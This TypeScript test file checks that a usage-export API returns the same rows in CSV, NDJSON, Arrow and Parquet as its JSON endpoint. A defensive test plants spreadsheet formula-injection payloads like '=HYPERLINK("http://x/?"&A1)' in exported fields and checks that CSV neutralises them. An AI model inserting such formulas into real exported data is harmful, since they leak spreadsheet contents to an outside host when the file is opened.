/**
 * Every format of `GET /usage/export`, read back by a library, against the JSON of `GET /usage`, for random events,
 * windows, zones, filters and groups. Real: the socket, Fastify, guards, validation, ClickHouse. Not real: the clock,
 * which stands still. Events go straight into the raw table.
 */
import { randomUUID } from 'node:crypto';
import fc from 'fast-check';
import type { ErrorDto } from '../../apps/api/src/http/api-errors.decorator';
import type { UsageResponseDto } from '../../apps/api/src/usage/answer/dto/usage-response.dto';
import { EXPORT_FORMATS, type ExportFormat } from '../../apps/api/src/usage/export/format';
import { EXPORT_TABLES, type ExportTable } from '../../apps/api/src/usage/export/table';
import { anEvent } from '../factories/events';
import { aUsageQuery } from '../factories/usage-queries';
import { insertEvents } from '../support/insert-events';
import type { OracleQuery } from '../support/usage-oracle';
import { type Rows, openExports, readArrow, readCsv, readNdjson, readParquet } from './export-fixture';

const NOW = Date.UTC(2026, 9, 26, 9, 30, 20, 400);
/** Berlin's clocks are set back. */
const CHANGE = Date.UTC(2026, 9, 25, 1);

let exports: Awaited<ReturnType<typeof openExports>>;

beforeAll(async () => {
  exports = await openExports(NOW);
});
afterAll(() => exports.close());

function searchOf(query: OracleQuery): URLSearchParams {
  const { granularity, timezone, weekStart, timeframe, from, to } = query;
  const search = new URLSearchParams({ granularity, timezone, weekStart });
  if (timeframe !== undefined) search.set('timeframe', timeframe);
  if (from !== undefined) search.set('from', new Date(from).toISOString());
  if (to !== undefined) search.set('to', new Date(to).toISOString());
  const lists = {
    keyId: query.keyIds,
    endpoint: query.endpoints,
    method: query.methods,
    statusCode: query.statusCodes,
    errorType: query.errorTypes,
    groupBy: query.groupBy,
  };
  for (const [name, values] of Object.entries(lists)) for (const value of values) search.append(name, value);
  return search;
}

/** The rows that an export should have. */
function expectedRows(answer: UsageResponseDto, table: ExportTable): Rows {
  switch (table) {
    case 'timeSeries':
      return answer.groups === undefined ? rowsOf(answer.timeSeries) : groupedRows(answer.groups);
    case 'endpoints':
      return rowsOf(answer.breakdown?.byEndpoint);
    case 'methods':
      return rowsOf(answer.breakdown?.byMethod);
    case 'statusCodes':
      return rowsOf(answer.breakdown?.byStatusCode);
    case 'errorTypes':
      return rowsOf(answer.errors?.byType);
    case 'keys':
      return rowsOf(answer.breakdown?.byKey);
  }
}

const rowsOf = (items: object[] = []): Rows => items.map((item) => ({ ...item }));

/** What is in a group that was not among the first has no group here; there are fewer groups than are shown. */
function groupedRows({ series }: NonNullable<UsageResponseDto['groups']>): Rows {
  return series.flatMap(({ group, timeSeries }) =>
    timeSeries
      .filter(({ requests }) => requests > 0)
      .map(({ timestamp, ...figures }) => ({ timestamp, ...group, ...figures })),
  );
}

async function read(response: Response, format: ExportFormat): Promise<Rows> {
  if (response.status !== 200) throw new Error(`${response.status}: ${await response.text()}`);
  const bytes = new Uint8Array(await response.arrayBuffer());
  const text = (): string => new TextDecoder('utf-8', { fatal: true }).decode(bytes);
  switch (format) {
    case 'csv':
      return readCsv(text());
    case 'ndjson':
      return readNdjson(text());
    case 'arrow':
      return readArrow(bytes);
    case 'parquet':
      return (await readParquet(bytes, exports.dataDir)).rows;
  }
}

/** As a spreadsheet may have it. */
function asCells(row: Record<string, unknown>): Record<string, unknown> {
  const cell = (value: unknown): unknown =>
    typeof value === 'string' && '=+-@\t\r'.includes(value.slice(0, 1) || ' ') ? `'${value}` : value;
  return Object.fromEntries(Object.entries(row).map(([name, value]) => [name, cell(value)]));
}

/** In one order: groups of `GET /usage` come by size, those of an export by bucket. */
function inOrder(rows: Rows): string[] {
  return rows.map((row) => JSON.stringify(row)).sort();
}

describe('GET /usage/export', () => {
  it('equals the JSON in every format, whatever is asked', async () => {
    const table = fc.oneof(
      { weight: 2, arbitrary: fc.constant<ExportTable>('timeSeries') },
      { weight: 1, arbitrary: fc.constantFrom(...EXPORT_TABLES) },
    );
    await fc.assert(
      fc.asyncProperty(
        fc.array(anEvent(NOW, ['k1', 'k2', 'k3']), { minLength: 40, maxLength: 150 }),
        fc.array(fc.tuple(aUsageQuery(NOW, ['k1', 'k2', 'k3'], [CHANGE]), table, fc.boolean()), {
          minLength: 4,
          maxLength: 8,
        }),
        async (events, queries) => {
          const account = randomUUID();
          const { secret } = await exports.key(account);
          const ids = new Map<string, string>();
          for (const [id, sign] of Object.entries({ k1: '', k2: '-', k3: '@' })) {
            ids.set(id, (await exports.key(account, { name: `${sign}"${id}", \\N` })).id);
          }
          const own = (id: string): string => ids.get(id) ?? id;
          const owned = events.map((event) => ({ ...event, keyId: own(event.keyId) }));
          await insertEvents(exports.clickhouse, account, owned);
          for (const [query, which, includeLatency] of queries) {
            await check(secret, { ...query, keyIds: query.keyIds.map(own) }, which, includeLatency);
          }
        },
      ),
      { numRuns: 10 },
    );
  }, 240_000);

  async function check(secret: string, asked: OracleQuery, table: ExportTable, includeLatency: boolean): Promise<void> {
    const query = table === 'timeSeries' ? asked : { ...asked, groupBy: [] };
    const search = searchOf(query);
    search.set('includeLatency', String(includeLatency));
    const json = new URLSearchParams(search);
    json.set('limit', '1000');
    if (query.groupBy.length > 0) json.set('groupLimit', '100');
    const response = await exports.get(secret, `/usage?${json.toString()}`);
    search.set('table', table);
    const answerIn = (format: ExportFormat): Promise<Response> =>
      exports.get(secret, `/usage/export?${search.toString()}&format=${format}`);
    if (response.status !== 200) {
      const error = (await response.json()) as ErrorDto;
      const refused = await answerIn('csv');
      if (refused.status === 200) {
        // More buckets fit into an export; an answer may have no granularity that fits.
        const kinds = [
          ['GRANULARITY_TOO_FINE', 'granularity'],
          ['GRANULARITY_TOO_FINE', 'groupLimit'],
          ['INVALID_PARAMETERS', 'timezone'],
        ];
        expect(kinds).toContainEqual([error.error, error.details?.[0]?.field]);
        expect(error.message).toMatch(/points/);
        await refused.body?.cancel();
      } else {
        // … so that a finer granularity may fit there where none fits an answer.
        const { error: code } = (await refused.json()) as ErrorDto;
        expect(error.error === 'INVALID_PARAMETERS' ? [error.error, 'GRANULARITY_TOO_FINE'] : [error.error]).toContain(
          code,
        );
      }
      return;
    }
    const expected = expectedRows((await response.json()) as UsageResponseDto, table);
    for (const format of EXPORT_FORMATS) {
      const rows = await read(await answerIn(format), format);
      const written = format === 'csv' ? expected.map(asCells) : expected;
      if (query.groupBy.length > 0) expect(inOrder(rows)).toEqual(inOrder(written));
      else expect(rows).toEqual(written);
      // toEqual takes no notice of the order of columns, nor of undefined ones.
      expect(rows.map((row) => Object.keys(row).join())).toEqual(expected.map((row) => Object.keys(row).join()));
    }
  }

  it.each(['=', '+', '-', '@', '\t', '\r', '＝'])(
    'has no cell that a spreadsheet computes: text that begins with %j follows an apostrophe',
    async (sign) => {
      const account = randomUUID();
      const { secret } = await exports.key(account);
      const text = `${sign}HYPERLINK("http://x/?"&A1)`;
      const { id: keyId } = await exports.key(account, { name: text });
      const event = { timestamp: NOW, statusCode: 500, latencyMs: 1, requestBytes: 0, responseBytes: 0 };
      const hostile = { endpoint: text, method: text, errorType: text, keyId };
      await insertEvents(exports.clickhouse, account, [{ ...event, ...hostile }]);
      const exported = async (search: string, format: ExportFormat): Promise<Rows> =>
        read(await exports.get(secret, `/usage/export?${search}&format=${format}`), format);
      for (const [search, column] of [
        ['table=endpoints', 'endpoint'],
        ['table=methods', 'method'],
        ['table=errorTypes', 'type'],
        ['table=keys', 'name'],
        ['groupBy=endpoint', 'endpoint'],
        ['groupBy=method', 'method'],
      ] as const) {
        expect((await exported(search, 'csv'))[0]?.[column]).toBe(`'${text}`);
        expect((await exported(search, 'ndjson'))[0]?.[column]).toBe(text);
      }
    },
  );
});
